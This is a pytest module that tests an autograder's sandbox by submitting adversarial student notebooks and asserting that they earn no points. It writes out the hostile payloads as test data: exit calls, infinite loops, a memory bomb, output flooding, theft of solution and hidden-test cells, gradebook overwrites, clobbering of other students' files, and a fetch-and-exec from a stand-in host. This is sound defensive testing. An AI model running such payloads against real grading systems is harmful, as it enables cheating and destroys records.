"""Adversarial submissions, each its own student, autograded for real beside honest ones.

Every attack starts from the student version of the numpy warm-up with wrong answers. For each:
no undeserved points, nothing left "needs manual grading", the honest students' grades unchanged.

- ``test_adversarial_submissions_get_no_undeserved_points``: attacks on the grader's machine (the
  gradebook, other students' files, the network, the kernel's life), all in one course and gradebook,
  one after another, which must stay intact.
- ``test_attacks_inside_the_kernel_get_no_points``: attacks on how the verdict is reached
  (``kernel_attacks.py``), graded in parallel course copies.
"""

import http.server
import json
import os
import sqlite3
import threading
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context

import nbformat
import pytest

from dlhelpers.grading.pipeline import Course, copy_course, source_notebooks, total
from dlhelpers.grading.sandbox import bubblewrap_works
from helpers import REPO, data_env
from kernel_attacks import FORGING, TAMPERING, WRONG_ANSWERS
from parallel_grading import autograde_all

pytestmark = pytest.mark.slow
ASSIGNMENT = "numpy_basics"

COPY_SOLUTIONS = """
def _copy_solutions(paths):
    import json
    copied = []
    for path in paths:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            source = "".join(cell["source"])
            if "BEGIN SOLUTION" in source:
                try:
                    exec(source, globals())
                    copied.append(path)
                except Exception:
                    pass
    return copied
"""

# name -> (code placed in the first answer cell, what it tries)
ATTACKS = {
    "sys_exit": WRONG_ANSWERS + "import sys\nsys.exit(0)\n",
    "os_exit": WRONG_ANSWERS + "import os\nos._exit(0)\n",
    "infinite_loop": WRONG_ANSWERS + "while True:\n    pass\n",
    "catch_keyboard_interrupt": WRONG_ANSWERS + """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
""",
    "memory_bomb": WRONG_ANSWERS + "hog = []\nwhile True:\n    hog.append(bytearray(10**8))\n",
    "huge_print": WRONG_ANSWERS + "while True:\n    print('x' * 100000)\n",
    "read_source_notebooks": WRONG_ANSWERS + COPY_SOLUTIONS + """
import glob
print(_copy_solutions(glob.glob("COURSE_ROOT/notebooks/*/*.ipynb") + glob.glob("../../../notebooks/*/*.ipynb")
                      + glob.glob("REPO_ROOT/notebooks/*/*.ipynb")
                      + glob.glob("/work/**/notebooks/*/*.ipynb", recursive=True)))
""",
    "read_gradebook": WRONG_ANSWERS + """
import glob, sqlite3
for path in glob.glob("../../../gradebook.db") + glob.glob("COURSE_ROOT/gradebook.db"):
    try:
        for (source,) in sqlite3.connect(path).execute("select source from source_cell"):
            if "def " in source:
                exec(source.replace("### BEGIN HIDDEN TESTS", ""), globals())
    except Exception as error:
        print("no gradebook:", error)
""",
    "write_gradebook": WRONG_ANSWERS + """
import glob, sqlite3
for path in glob.glob("../../../gradebook.db") + glob.glob("COURSE_ROOT/gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 100, manual_score = 100")
        db.commit()
    except Exception as error:
        print("cannot write:", error)
    try:
        open(path, "wb").write(b"destroyed")
    except Exception as error:
        print("cannot overwrite:", error)
""",
    "write_other_student": WRONG_ANSWERS + """
import glob
for path in (glob.glob("../../honest_reference/*/*.ipynb") + glob.glob("COURSE_ROOT/submitted/*/*/*.ipynb")
             + glob.glob("COURSE_ROOT/autograded/*/*/*.ipynb")):
    try:
        open(path, "w").write("{}")
        print("overwrote", path)
    except Exception as error:
        print("cannot write", path, error)
""",
    "network": WRONG_ANSWERS + """
import socket, urllib.request
for url in NETWORK_TARGETS:
    try:
        exec(urllib.request.urlopen(url, timeout=3).read().decode(), globals())
    except Exception as error:
        print("no network:", error)
""",
}


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):
        _Recorder.hits.append(self.path)
        body = WRONG_ANSWERS.replace("return 0.5", "return 1 / (1 + __import__('math').exp(-x))").encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def _attack_notebook(release_path, code, target):
    notebook = nbformat.read(release_path, as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = code
            break
    nbformat.write(notebook, target)
    return target


def _tamper_cells(release_path, target, how):
    """Attacks on the test cells themselves: edit, delete, re-type, strip metadata."""
    notebook = nbformat.read(release_path, as_version=4)
    first = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution"))
    first.source = WRONG_ANSWERS
    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
    for cell in tests:
        if how == "edit":
            cell.source = 'print("All checks passed.")'
        elif how == "retype":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        elif how == "strip_metadata":
            cell.metadata["nbgrader"].update(grade=False, locked=False, points=0)
            cell.source = 'print("All checks passed.")'
        elif how == "rename":
            cell.metadata["nbgrader"]["grade_id"] += "_gone"
            cell.source = "pass"
    if how == "delete":
        notebook.cells = [c for c in notebook.cells if c not in tests]
    nbformat.write(notebook, target)
    return target


SHORT_LIMITS = "\nc.Execute.timeout = 6\nc.SafeExecute.interrupt_grace = 2\nc.SafeExecute.max_output_bytes = 200_000\n"
needs_sandbox = pytest.mark.skipif(not bubblewrap_works(), reason="bubblewrap is not installed "
                                   "(sudo apt install bubblewrap): the sandbox is off")


def _course_with_short_limits(root):
    with open(root / "nbgrader_config.py", "a") as config:
        config.write(SHORT_LIMITS)
    return root


def _grade_shared_course(root, recorder_url):
    """Autograde every attack of ``ATTACKS`` (and the tampering) in one course, one after another.

    Runs in a background process (see ``shared_course``). Returns the table of points, the honest
    reference's scores right after its grading and at the end, and the gradebook's students.
    """
    os.environ.update({k: v for k, v in data_env().items() if k.startswith("DLHELPERS_")})
    root = _course_with_short_limits(copy_course(REPO, root, only=[ASSIGNMENT]))
    course = Course(root)
    release = course.generate(ASSIGNMENT)
    [source] = source_notebooks(root, ASSIGNMENT)
    released = release / source.name
    attacks = root.parent / "attacks"

    submissions = {"honest_reference": source}
    for name, code in ATTACKS.items():
        code = (code.replace("NETWORK_TARGETS", repr([recorder_url, "http://example.com/"]))
                .replace("COURSE_ROOT", str(root)).replace("REPO_ROOT", str(REPO)))
        folder = attacks / name
        folder.mkdir(parents=True)
        submissions[name] = _attack_notebook(released, code, folder / source.name)
    for how in ("edit", "delete", "retype", "strip_metadata", "rename"):
        folder = attacks / f"tamper_{how}"
        folder.mkdir(parents=True)
        submissions[f"tamper_{how}"] = _tamper_cells(released, folder / source.name, how)
    submissions["honest_blank"] = released

    for student, notebook in submissions.items():
        course.submit(student, ASSIGNMENT, [notebook])
    reference_before, table = None, {}
    for student in submissions:
        course.autograde(ASSIGNMENT, student)
        scores = course.scores(ASSIGNMENT, student)
        if student == "honest_reference":
            reference_before = scores
        table[student] = (total(scores), any(s.needs_manual_grade for s in scores))
    with sqlite3.connect(root / "gradebook.db") as db:
        students = {row[0] for row in db.execute("select id from student")}
    return table, reference_before, course.scores(ASSIGNMENT, "honest_reference"), students, root


@pytest.fixture(scope="module")
def shared_course(tmp_path_factory):
    """The shared-course attacks, graded in a background process from the start of this module, so
    that the one core they keep busy overlaps the parallel grading of the kernel attacks."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Recorder.hits.clear()
    url = f"http://127.0.0.1:{server.server_address[1]}/solutions.py"
    # spawn, not fork: the test process has threads (the HTTP server's, nbgrader's) that fork would copy broken.
    pool = ProcessPoolExecutor(1, mp_context=get_context("spawn"))
    future = pool.submit(_grade_shared_course, tmp_path_factory.mktemp("shared") / "course", url)
    yield future
    pool.shutdown(wait=True, cancel_futures=True)
    server.shutdown()
    server.server_close()


@needs_sandbox
def test_attacks_inside_the_kernel_get_no_points(tmp_path, shared_course):
    # shared_course: its grading starts first and runs beside this test's
    root = _course_with_short_limits(copy_course(REPO, tmp_path / "course", only=[ASSIGNMENT]))
    [source] = source_notebooks(root, ASSIGNMENT)
    released = Course(root).generate(ASSIGNMENT) / source.name
    submissions = {"honest_reference": source, "honest_blank": released}
    attacks = {**TAMPERING, **FORGING}
    assert len(FORGING) >= 15
    for name, code in attacks.items():
        folder = tmp_path / "attacks" / name
        folder.mkdir(parents=True)
        code = WRONG_ANSWERS + code.replace("COURSE_ROOT", str(root)).replace("REPO_ROOT", str(REPO))
        submissions[name] = _attack_notebook(released, code, folder / source.name)

    graded = autograde_all(root, ASSIGNMENT, submissions, tmp_path / "graders")
    table = {student: (sum(s.score for s in scores.values()), sum(s.max_score for s in scores.values()),
                       any(s.needs_manual_grade for s in scores.values()))
             for student, (scores, _) in graded.items()}
    print("\nattacks inside the kernel:")
    for student, (points, maximum, manual) in table.items():
        print(f"  {student:<36} {points:g} / {maximum:g}{'  NEEDS MANUAL GRADING' if manual else ''}")

    reference_scores, _ = graded["honest_reference"]
    assert all(s.score == s.max_score > 0 for s in reference_scores.values()), "the honest reference lost points"
    blank_scores, _ = graded["honest_blank"]
    assert set(blank_scores) == set(reference_scores)
    for student, (points, _, manual) in table.items():
        assert not manual, f"{student} left the submission needing manual grading"
        if student != "honest_reference":
            assert points == 0, f"{student} got {points} undeserved points"
    _, folder = graded["read_the_reference_records"]
    assert "reference records found: 0" in (folder / source.name).read_text(), "the kernel could read the cache"


@needs_sandbox
def test_adversarial_submissions_get_no_undeserved_points(shared_course):
    table, reference_before, reference_after, students, root = shared_course.result()
    print("\nadversarial catalog:")
    for student, ((points, maximum), manual) in table.items():
        print(f"  {student:<26} {points:g} / {maximum:g}{'  NEEDS MANUAL GRADING' if manual else ''}")

    assert len(table) - 2 >= 15 - len(TAMPERING)  # the tampering attacks are in kernel_attacks.py
    (full, maximum) = table["honest_reference"][0]
    assert full == maximum > 0
    assert reference_after == reference_before, "honest grades changed"
    for student, ((points, _), manual) in table.items():
        assert not manual, f"{student} left the submission needing manual grading"
        if student != "honest_reference":
            assert points == 0, f"{student} got {points} undeserved points"
    assert _Recorder.hits == [], "a submission reached the network"
    assert students == set(table)
    [source] = source_notebooks(root, ASSIGNMENT)
    autograded = root / "autograded"
    assert json.loads((autograded / "honest_reference" / ASSIGNMENT / source.name).read_text())["cells"]

    # A clear status for the instructor: the stopped kernels say why, in the graded notebook.
    for student, words in (("os_exit", "kernel died"), ("catch_keyboard_interrupt", "ignored the interrupt"),
                           ("huge_print", "printed more than"), ("infinite_loop", "CellTimeoutError")):
        text = (autograded / student / ASSIGNMENT / source.name).read_text()
        assert words in text, f"{student}: the graded notebook does not say {words!r}: {text[-3000:]}"
